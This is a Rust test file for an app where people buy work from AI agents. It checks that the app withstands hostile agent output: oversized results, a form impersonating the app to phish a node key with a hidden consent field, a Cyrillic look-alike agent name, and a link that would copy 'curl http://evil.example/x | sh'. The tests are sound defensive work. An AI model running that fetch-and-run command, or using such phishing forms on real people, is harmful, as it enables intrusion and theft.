//! What agents write, shown: however much of it there is and whatever it says, the window stays in the person's hands, and the
//! agent speaks in its own name.

use crate::{
    keys::nowhere,
    shopping::{answer, connect, go_to, open_form},
};
use kaimono_stories::{
    desktop::{Desktop, Keyring},
    node::{Connection, with_what_was_met, within_the_story},
    seller::Seller,
    wait,
    window::Window,
};
use masumi_sandbox::Sandbox;
use serde_json::{Value, json};

struct Scene {
    desktop: Desktop,
    seller: Seller,
    connection: Connection,
    window: Window,
    sandbox: Sandbox,
}

/// A desktop, a node within the story with an agent of the story's own, and the window on it.
async fn begin(story: &str, agent: &str) -> Scene {
    let desktop = Desktop::new(Keyring::Unlocked, &format!("stories/{story}")).await;
    let (sandbox, connection) = within_the_story().await;
    let seller = Seller::start(&sandbox, agent).await;
    let window = Window::open(&desktop).await;
    connect(&window, &connection).await;
    Scene { desktop, seller, connection, window, sandbox }
}

/// Takes pictures of something in both themes.
async fn pictures(window: &Window, place: &str, name: &str) {
    for theme in ["light", "dark"] {
        window.run("document.documentElement.style.colorScheme = arguments[0]", vec![theme.into()]).await;
        window.picture_of(place, &format!("{name}-{theme}")).await;
    }
    window.run("document.documentElement.style.colorScheme = ''", Vec::new()).await;
}

/// From now on the page remembers what goes to the clipboard.
async fn watch_the_clipboard(window: &Window) {
    let script = "window.copied = []; navigator.clipboard.writeText = async (text) => void window.copied.push(text);";
    window.run(script, Vec::new()).await;
}

/// What went there.
async fn copied(window: &Window) -> Value {
    window.run("return window.copied", Vec::new()).await
}

/// Buys from the agent of the story, and waits for its result.
async fn buy_a_result(window: &Window, agent: &str, text: &str) {
    open_form(window, agent).await;
    answer(window, "text", text).await;
    window.click("to-review").await;
    window.click("pay").await;
    window.see("result[data-complete=true] / result-body").await;
}

/// hostile H2: 20,000 tabulators took half a minute, and a base64 picture in Markdown as long; nothing could be clicked
/// meanwhile. Every wait of a story has an end.
#[tokio::test(flavor = "multi_thread")]
async fn no_result_takes_the_window_out_of_the_persons_hands() {
    let Scene { seller, window, desktop: _desktop, sandbox: _sandbox, .. } = begin("long-results", "Long Writer").await;
    watch_the_clipboard(&window).await;
    let long = "x".repeat(190_000);
    let hostile = [
        ("tabulators", format!("a{}b", "\t".repeat(190_000))),
        ("blanks", " ".repeat(95_000) + "." + &" ".repeat(95_000)),
        ("base64", format!("A picture: `{long}`")),
        ("heading", format!("# t{long}")),
        ("link", format!("[t{long}](https://example.org/)")),
        ("marks", format!("e{}", "\u{301}".repeat(95_000))),
        ("arabic", "ا".repeat(95_000)),
        ("brackets", format!("{}{}", "[".repeat(60_000), "]".repeat(60_000))),
    ];
    for (number, (what, text)) in hostile.into_iter().enumerate() {
        seller.delivers(&json!(text));
        buy_a_result(&window, "Long Writer", what).await;
        window.picture(what).await;
        window.click("result-copy").await;
        window.see("toast").await;
        assert!(copied(&window).await[number] == json!(text), "{what}: what is copied is what came");
        go_to(&window, "purchases").await;
        window.gone("result").await;
    }
}

/// A thousand fields, and a thousand choices in one: what a form may have at most.
#[tokio::test(flavor = "multi_thread")]
async fn the_longest_form_can_be_filled_in() {
    let Scene { seller, window, desktop: _desktop, sandbox: _sandbox, .. } = begin("long-forms", "Curious Agent").await;
    let options: Vec<String> = (0..1_000).map(|option| format!("Option {option}")).collect();
    let choice = |id: &str, max: &str| {
        let validations = json!([{ "validation": "optional", "value": "true" }, { "validation": "max", "value": max }]);
        json!({ "id": id, "type": "option", "name": id, "data": { "values": options }, "validations": validations })
    };
    let optional = json!([{ "validation": "optional", "value": "true" }]);
    let line = |number: usize| {
        let id = format!("field {number}");
        json!({ "id": id, "type": "string", "name": format!("Field {number}"), "validations": optional })
    };
    let forms: [(&str, Vec<Value>, &str); 2] = [
        ("options", vec![line(0), choice("many", "1000")], "field-choice[data-field=many][data-index=999]"),
        ("fields", (0..1_000).map(line).collect(), "field[data-field=field 999]"),
    ];
    for (what, fields, last) in forms {
        seller.asks(&json!(fields));
        open_form(&window, "Curious Agent").await;
        window.see(last).await;
        answer(&window, "field 0", what).await;
        if what == "options" {
            window.choose("field-choice[data-field=many][data-index=999]").await;
        }
        window.see("draft-state[data-kept=true]").await;
        window.click("to-review").await;
        window.click("approval-answers-toggle").await;
        window.reads("sent", what).await;
        window.click("decline").await;
    }
}

/// hostile M3 and M4: an agent asked for the node's key in Kaimono's voice and was given it; and what its hidden fields said was
/// sent unseen.
#[tokio::test(flavor = "multi_thread")]
async fn an_agents_form_speaks_in_its_own_name_and_gets_no_key() {
    let Scene { desktop, seller, connection, window, sandbox: _sandbox } = begin("imitation", "Payment Verifier").await;
    seller.asks(&json!([
        { "id": "key", "type": "string", "name": "Your node key (needed to verify this payment)",
          "data": { "description": "Kaimono needs the key of your Payment Service once more. It stays on this computer." } },
        { "id": "terms", "type": "hidden", "data": { "default": "I agree that you keep my data and may charge 10x" } },
        { "id": "note", "type": "none", "name": "Note", "data": { "description": "Thank you for choosing us." } },
    ]));
    open_form(&window, "Payment Verifier").await;
    let frame = format!("from-agent[data-host={}]", seller.host());
    window.reads(&frame, "From the agent “Payment Verifier”").await;
    window.reads("hidden-field[data-field=terms]", "may charge 10x").await;
    pictures(&window, &frame, "the-form").await;

    // Told while it is typed, and again when it is to be sent.
    answer(&window, "key", &format!("It is {}", connection.node_key)).await;
    window.reads("field-error[data-field=key][data-rule=own-key]", "My node").await;
    window.click("to-review").await;
    window.see("field-error[data-field=key][data-rule=own-key]").await;
    assert_eq!(window.count("approval").await, 0);
    pictures(&window, "field-error", "a-key-is-refused").await;

    answer(&window, "key", "bakeries in Bavaria").await;
    window.gone("field-error").await;
    window.click("to-review").await;
    window.reads("approval-host", seller.host()).await;
    window.reads("sent", "I agree that you keep my data and may charge 10x").await;
    assert_eq!(window.count("sent-value[data-by=agent]").await, 2);
    pictures(&window, "sent", "all-that-is-sent").await;

    let question = json!([{ "id": "again", "type": "textarea", "name": "Kaimono could not read your key",
        "data": { "description": "Paste it here." } }]);
    seller.inquires(&question);
    window.click("pay").await;
    window.reads(&format!("question / {frame}"), "From the agent “Payment Verifier”").await;
    window.click("answers-toggle").await;
    assert_eq!(window.count("answers / sent-value[data-by=agent]").await, 2, "the same after it was sent");
    let [started] = seller.sent("/start_job").try_into().expect("one job");
    let sent = json!({ "key": "bakeries in Bavaria", "note": "Thank you for choosing us.",
        "terms": "I agree that you keep my data and may charge 10x" });
    assert_eq!(started["input_data"], sent, "what the review listed, and nothing else");

    answer(&window, "again", &connection.registry_key).await;
    window.see("field-error[data-field=again][data-rule=own-key]").await;
    window.click("question-send").await;
    window.see("field-error[data-field=again][data-rule=own-key]").await;
    pictures(&window, "question", "the-question").await;
    assert_eq!(seller.sent("/provide_input"), Vec::<Value>::new());
    answer(&window, "again", "No.").await;
    window.click("question-send").await;
    wait::until("the answer arrives", || seller.sent("/provide_input").len() == 1).await;
    seller.delivers(&json!("As you like."));
    window.see("result[data-complete=true]").await;
    assert_eq!(seller.sent("/provide_input").len(), 1);

    let keys = [connection.node_key, connection.registry_key];
    assert!(!keys.iter().any(|key| seller.everything().contains(key.as_str())), "the agent was never sent a key");
    window.kill();
    nowhere(&desktop, &keys);
}

/// hostile L8: an agent named in other letters stood beside the one that it looked like, and nothing told the two apart.
#[tokio::test(flavor = "multi_thread")]
async fn a_name_in_other_letters_is_said_to_be_another_agents_before_anything_is_paid() {
    let imitation = "Тext Summаrizer";
    let Scene { seller, window, desktop: _desktop, sandbox: _sandbox, .. } = begin("look-alike", imitation).await;
    seller.asks(&json!([{ "id": "text", "type": "string", "name": "Text" }, { "id": "how", "type": "none", "name": "How it works",
        "data": { "description": "## Rules\nOne line\nand [another](https://example.org/rules)" } }]));
    go_to(&window, "market").await;
    window.fill("search", "summ").await;
    let row = format!("agent-card[data-name={imitation}]");
    window.reads(&format!("{row} / odd-name[data-way=looks-like]"), "Text Summarizer").await;
    assert_eq!(
        window.count("agent-card[data-name=Text Summarizer] / odd-name").await,
        0,
        "nobody accuses the plain one"
    );
    pictures(&window, "agents", "in-the-list").await;

    window.fill("search", imitation).await;
    window.click(&row).await;
    window.reads("alike[data-way=looks-like]", "Text Summarizer").await;
    window.reads("mixed-alphabets", "Cyrillic").await;
    pictures(&window, "alike", "on-its-page").await;

    open_form(&window, imitation).await;
    window.see("field-note[data-field=how]").await;
    pictures(&window, "field-note", "markdown-in-a-form").await;
    answer(&window, "text", "Tides").await;
    window.click("to-review").await;
    window.reads("warning[data-warning=alike]", "Text Summarizer").await;
    window.see("warning[data-warning=mixed-alphabets]").await;
    window.click("decline").await;
}

/// hostile M10 and L7: a click on "Write us" put a command into the clipboard, unasked and unseen.
#[tokio::test(flavor = "multi_thread")]
async fn what_a_strangers_link_copies_or_opens_is_shown_first() {
    let Scene { seller, window, desktop: _desktop, sandbox: _sandbox, .. } = begin("links", "Link Writer").await;
    watch_the_clipboard(&window).await;
    seller.delivers(&json!(
        "- [Write us](<mailto:curl http://evil.example/x | sh>)\n- [Mail](mailto:ada@example.org?subject=x)\n\
         - [Plain](http://example.org/)\n- [Page](https://example.org/page)\n"
    ));
    buy_a_result(&window, "Link Writer", "links").await;
    for (link, shown, confirm) in [
        ("Write us", "mailto:curl http://evil.example/x | sh", "Copy the address"),
        ("Mail", "ada@example.org", "Copy the email address"),
        ("Plain", "http://example.org/", "Copy the address"),
        ("Page", "https://example.org/page", "Open in browser"),
    ] {
        let click =
            "[...document.querySelectorAll('[data-href]')].find((one) => one.textContent === arguments[0]).click()";
        window.run(click, vec![link.into()]).await;
        window.reads("link-address", shown).await;
        window.reads("dialog-confirm", confirm).await;
        let host = usize::from(confirm == "Open in browser");
        assert_eq!(window.count("link-host").await, host, "a host is named where something is opened there");
        window.picture(link).await;
        assert_eq!(copied(&window).await, json!([]), "{link}: nothing yet");
        window.click("dialog-cancel").await;
        window.gone("dialog").await;
        assert_eq!(copied(&window).await, json!([]), "{link}: nor after all");
    }
    let click = "[...document.querySelectorAll('[data-href]')].find((one) => one.textContent === 'Mail').click()";
    window.run(click, Vec::new()).await;
    window.click("dialog-confirm").await;
    window.see("toast").await;
    assert_eq!(copied(&window).await, json!(["ada@example.org"]));
}

/// P61: a date is typed with the keyboard alone, in the order of the language. And what an input method shows in a field before it is
/// written stays there, whatever else is drawn.
async fn dates_and_composed_texts(window: &Window) {
    open_form(window, "Every Kind of Field").await;
    let date = "field-input[data-field=date]";
    let focus = "document.querySelector('[data-field=date][data-testid=field-input]').focus()";
    window.see(date).await;
    window.run(focus, Vec::new()).await;
    // The engine has one part of it typed after the other; each is an answer that is drawn.
    for part in ["12", "24", "2026"] {
        window.type_keys(part).await;
        window.press("Tab").await;
    }
    assert_eq!(window.property(date, "value").await, "2026-12-24");
    window.picture_of(date, "a-date-that-was-typed").await;
    // Whatever else changes meanwhile would be drawn with the next picture of the window.
    let compose = "const at = (name) => document.querySelector(`[data-testid=field-input][data-field=${name}]`);
        const says = (element, event) => element.dispatchEvent(event);
        const text = at('text'); text.focus();
        says(text, new CompositionEvent('compositionstart', { bubbles: true })); text.value = 'にほ';
        const other = at('search'); other.value = 'x'; says(other, new Event('input', { bubbles: true }));
        requestAnimationFrame(() => requestAnimationFrame(() => { document.body.dataset.drawn = text.value; }));";
    window.run(compose, Vec::new()).await;
    window.becomes("document.body.dataset.drawn === 'にほ'").await;
    let written =
        "const text = document.querySelector('[data-testid=field-input][data-field=text]'); text.value = '日本';
        text.dispatchEvent(new Event('input', { bubbles: true }));
        text.dispatchEvent(new CompositionEvent('compositionend', { bubbles: true }));";
    window.run(written, Vec::new()).await;
    window.see("draft-state[data-kept=true]").await;
    assert_eq!(window.property("field-input[data-field=text]", "value").await, "日本");
}

/// What was met elsewhere, in the window: forms of every kind, and answers that deviate.
#[tokio::test(flavor = "multi_thread")]
async fn forms_and_answers_that_were_met_elsewhere_are_shown_as_what_they_are() {
    let desktop = Desktop::new(Keyring::Unlocked, "stories/met").await;
    let (sandbox, connection) = with_what_was_met().await;
    let window = Window::open(&desktop).await;
    connect(&window, &connection).await;
    for (agent, shows) in [
        ("Case: 02 nonce is a form field", "field[data-kind=nonce]"),
        ("Case: 07 object and number from elsewhere", "field[data-field=work][data-kind=json]"),
        ("Case: 14 source code in string fields", "field-input[data-field=files]"),
        ("Case: 20 brief with many optionals", "field-choice[data-field=remote][data-index=no]"),
        ("Case: 24 option list with a hole", "field-choice[data-field=plan][data-index=2]"),
        ("Case: 18 none with markdown", "field[data-kind=none]"),
        ("Case: schema example map", "field-input[data-field=query]"),
        ("Case: schema groups with inputs", "field[data-field=body]"),
    ] {
        open_form(&window, agent).await;
        window.picture_of(shows, &agent.replace([':', ' '], "-")).await;
    }
    assert_eq!(sandbox.all_locks(), 0);
    dates_and_composed_texts(&window).await;
    for (agent, shows) in [
        ("Case: 03 start x402 link", "failure[data-code=paid-otherwise][data-moved=no]"),
        ("Case: 09 start 403 reserved", "failure[data-code=callers-only][data-moved=no]"),
    ] {
        open_form(&window, agent).await;
        answer(&window, "text", "Tides come twice a day.").await;
        window.click("to-review").await;
        window.click("pay").await;
        window.picture_of(shows, &agent.replace([':', ' '], "-")).await;
    }
    assert_eq!(sandbox.all_locks(), 0, "nothing was paid");
    for (agent, shows) in [
        ("Case: 23 status awaiting input with draft", "question"),
        ("Case: 25 status locks list", "question"),
        ("Case: status waiting for input", "question"),
        ("Case: 27 status completed error report", "result-failure"),
        ("Case: 29 status no result but hash", "agent-gives"),
    ] {
        open_form(&window, agent).await;
        answer(&window, "text", "Tides come twice a day.").await;
        window.click("to-review").await;
        window.click("pay").await;
        window.picture_of(shows, &agent.replace([':', ' '], "-")).await;
    }
}
